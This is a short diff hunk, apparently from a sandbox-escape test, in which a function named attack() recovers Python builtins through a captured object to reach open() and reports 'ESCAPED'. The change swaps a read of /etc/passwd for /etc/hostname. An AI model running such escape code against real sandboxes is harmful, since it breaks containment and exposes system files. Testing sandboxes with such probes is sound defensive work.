@@ -41,4 +41,4 @@ def attack():
     kept.append(shelf)
     builtins = shelf[0]["__builtins__"]
     opened = builtins["open"] if isinstance(builtins, dict) else builtins.open
-    return "ESCAPED: " + opened("/etc/passwd").read(20)
+    return "ESCAPED: " + opened("/etc/hostname").read(20)
